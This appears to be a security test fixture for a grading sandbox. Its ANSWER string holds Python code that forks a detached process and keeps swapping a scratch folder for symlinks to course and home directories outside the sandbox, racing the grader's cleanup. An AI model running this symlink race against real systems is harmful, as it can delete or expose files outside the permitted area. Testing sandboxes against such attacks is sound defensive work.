"""Swaps a scratch folder for a link to the course, again and again, while the grader cleans up."""

ANSWER = """
os.makedirs("real/deep/er", exist_ok=True)
open("real/deep/er/file", "w").close()

def swap_forever():
    while True:
        try:
            os.rename("real", "kept")
            os.symlink(outside.course, "real")
            os.unlink("real")
            os.rename("kept", "real")
        except OSError:
            pass

os.symlink(outside.course, "course")
os.symlink(outside.home, "helper.py.d")
try:
    os.chmod("real", 0)
except OSError:
    pass  # without namespaces
print("swapping")
if os.fork() == 0:
    os.setsid()
    swap_forever()
"""
EVIDENCE = "swapping"
